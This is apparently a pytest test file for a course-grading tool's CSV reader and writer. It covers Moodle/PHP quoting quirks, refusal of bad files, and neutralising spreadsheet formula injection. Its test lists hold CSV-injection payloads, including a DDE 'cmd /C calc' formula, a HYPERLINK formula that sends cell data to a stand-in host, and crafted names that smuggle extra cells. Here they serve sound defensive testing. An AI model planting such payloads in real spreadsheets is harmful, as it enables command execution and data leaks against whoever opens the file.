"""Tables: read as programs write them, written so that no spreadsheet runs a cell."""

import csv
import io
import random

import pytest

from grader import php_csv
from grader.course import CourseError
from grader.tables import LARGEST, harmless, read_table, write_table

ROWS = [["id", "name"], ["ann", "Ann Lée"], ["bo", "Li, Bo"]]


@pytest.mark.parametrize(
    ("text", "encoding"),
    [
        ('id,name\nann,Ann Lée\nbo,"Li, Bo"\n', "utf-8"),
        ('id,name\r\nann,Ann Lée\r\n\r\nbo,"Li, Bo"', "utf-8-sig"),
        ("id;name\nann;Ann Lée\nbo;Li, Bo\n", "cp1252"),
        ("id\tname\nann\tAnn Lée\n\t\nbo\tLi, Bo\n", "utf-16"),
        ("sep=;\nid;name\nann;Ann Lée\nbo;Li, Bo\n", "utf-8"),
        ('"id","name"\n"ann","  Ann\u200b\nLée "\nbo,"Li, Bo"\n', "utf-8"),
    ],
)
def test_a_table_is_read_as_programs_write_it(tmp_path, text, encoding):
    (tmp_path / "x.csv").write_bytes(text.encode(encoding))
    assert [row for row in read_table(tmp_path / "x.csv") if row] == ROWS


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"PK\x03\x04rest", "save the table as CSV"),
        (b"\x89PNG\r\n\x1a\n\x00\x00", "not text"),
        (b"i\x00d\x00,\x00", "not text"),
        (b'id,name\nann,"Ann\n', "no CSV file"),
        (b"x" * (LARGEST + 1), "more than 32 MB, the most of them in row 1:"),
        (b"id\nann\n" + b"x" * LARGEST, "in row 3: .*the text of one cell has to be cut"),
        (b"\n" * 60_000, "too many lines"),
        (b"," * 600_000, "too many lines or cells"),
    ],
)
def test_other_files_are_refused(tmp_path, content, words):
    (tmp_path / "x.csv").write_bytes(content)
    with pytest.raises(CourseError, match=words):
        read_table(tmp_path / "x.csv")


def test_a_long_cell_costs_no_table(tmp_path):
    (tmp_path / "x.csv").write_text(f"id,text\nann,{'x' * 140_000}\nbo,y\n")
    assert [(row[0], len(row[1])) for row in read_table(tmp_path / "x.csv")[1:]] == [
        ("ann", 140_000),
        ("bo", 1),
    ]


FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\ufe661+1",
    "Ann;=1+1;x",
    "Ann,=1+1",
    "Ann\t=1+1",
    'Ann";=1+1',
    'Ann"=1+1',
    "Ann\n=1+1",
    "Ann; \u200b =1+1",
    "=1;=2",
    '= HYPERLINK("http://x.example/?"&A2,"Click")',
    "\uff1d 1+1",
    "= cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize("delimiter", [",", ";", "\t", None])
def test_no_cell_is_a_formula(tmp_path, text, delimiter):
    """Whatever a program takes for the separator, and whether or not it knows quotes."""
    path = write_table(tmp_path / "x.csv", ["name"], [[text, 1]])
    lines = path.read_text("utf-8").splitlines()
    if delimiter is None:
        cells = [cell for line in lines for cell in line.replace('"', ";").split(";")]
    else:
        cells = [cell for row in csv.reader(lines, delimiter=delimiter) for cell in row]
    seen = [cell.strip().lstrip('"').strip() for cell in cells]
    assert not [cell for cell in seen if cell[:1] in "=+-@\uff1d\uff0b\uff0d\uff20\ufe66" and cell]


@pytest.mark.parametrize(
    "value",
    [
        *(1, 2.5, -1, "1.5", "-1,5", "+3", ""),
        *("Ann-Marie O'Neil", "a=b", "x@y.example", "Lee, Ann", "-", "1201"),
    ],
)
def test_numbers_and_names_stay_what_they_are(value):
    assert harmless(value) == value


@pytest.mark.parametrize(
    "name", ["-Ann", "=Bo", "Lee, -Ann", "@home", "+1 Lee", "O'Neil", "'quoted'"]
)
def test_names_survive_the_way_out_and_in(tmp_path, name):
    path = write_table(tmp_path / "x.csv", ["name"], [[name, "x"]])
    assert read_table(path)[1][0] == name


def test_what_is_not_seen_is_not_written():
    assert harmless("Ann\x1b[31m\nLee\x00\u202e") == "Ann [31m Lee"


def php(text):
    r"""Write a cell as PHP does, and so Moodle: a " behind a \ is not doubled."""
    if not set(text) & set('", \t\n\r\\'):
        return text
    out, escaped = "", False
    for letter in text:
        out += '""' if letter == '"' and not escaped else letter
        escaped = letter == "\\"
    return f'"{out}"'


TYPED = [
    'print("a\\"b")',
    'x\\",-\nParticipant 1001,Ann Lee,30 December 2026 9:00 PM',
    'x\\",18,"y',
    '\\"\\"',
    'x"\\""y',
    "C:\\",
]


@pytest.mark.parametrize("text", TYPED)
def test_what_a_student_typed_makes_no_cells(tmp_path, text):
    """Neither in a worksheet of Moodle's nor in one that is written for it."""
    path = tmp_path / "x.csv"
    path.write_text(f'Identifier,name,grade\n"Participant 1003",{php(text)},-\n', "utf-8")
    assert read_table(path)[1] == ["Participant 1003", " ".join(text.split()), "-"]
    for row in ([text, 1], [1, text]):
        write_table(path, ["a", "b"], [row])
        written = path.read_text("utf-8").splitlines()[1]
        assert '\\"' not in written
        assert not written.endswith("\\")


#: Full names in a worksheet that read as more cells, or as no table, in another way.
NAMES = [
    'Eve \\",u3@x.org,Submitted,,18,Yes,19 November 2026 10:00 AM,-,\\',
    'Eve \\" \\',
    "Eve \\",
    'Eve \\"E\\"',
    'a\\",\nParticipant 1202,Bob Ray,u3@x.org,y,,18,Yes,-,z\\',
]


@pytest.mark.parametrize("name", NAMES)
def test_a_name_stays_in_its_cell(tmp_path, name):
    heads = ["Identifier", "Full name", "Email address", "Status", "Grade", "Maximum Grade"]
    lines = [
        [f"Participant {n}", who, f"u{n}@x.org", "Submitted for grading", "", "18.00"]
        for n, who in ((1201, "Ann Lee"), (1203, name), (1202, "Bob Ray"))
    ]
    path = tmp_path / "x.csv"
    path.write_text("".join(",".join(map(php, row)) + "\n" for row in [heads, *lines]), "utf-8")
    found = read_table(path)
    assert [row[0] for row in found] == ["Identifier", *(line[0] for line in lines)]
    assert found[2] == [" ".join(cell.split()) for cell in lines[1]]


def test_no_other_table_is_read_than_was_written():
    r"""Random cells of what is special, as PHP writes them and as others do."""
    letters = random.Random(0)
    for _ in range(2000):
        rows = [
            ["h", "b c", "d"],
            *(
                ["".join(letters.choices('a\\",\n ', k=letters.randint(0, 6))) for _ in range(3)]
                for _ in range(2)
            ),
        ]
        by_php = "".join(",".join(map(php, row)) + "\n" for row in rows)
        assert php_csv.read(by_php, ",", php=True) == rows
        other = io.StringIO(newline="")
        csv.writer(other, lineterminator="\n").writerows(rows)
        assert php_csv.read(other.getvalue(), ",", php=False) == rows


@pytest.mark.parametrize(
    ("text", "words"),
    [('a,b\n"x\\",y,z\n', "other numbers of cells"), ('a,b\n"x\\",y\n"z,w\n', "other numbers")],
)
def test_a_table_whose_rows_do_not_end_is_refused(tmp_path, text, words):
    path = tmp_path / "x.csv"
    path.write_text(text, "utf-8")
    with pytest.raises(CourseError, match=words):
        read_table(path)


def test_a_table_full_of_quotes_is_refused_with_its_line(tmp_path, monkeypatch):
    monkeypatch.setattr(php_csv, "MOST_STEPS", 100)
    path = tmp_path / "x.csv"
    path.write_text('a,b\n1,"' + '\\",' * 500 + '"\n', "utf-8")
    with pytest.raises(CourseError, match="line 2"):
        read_table(path)
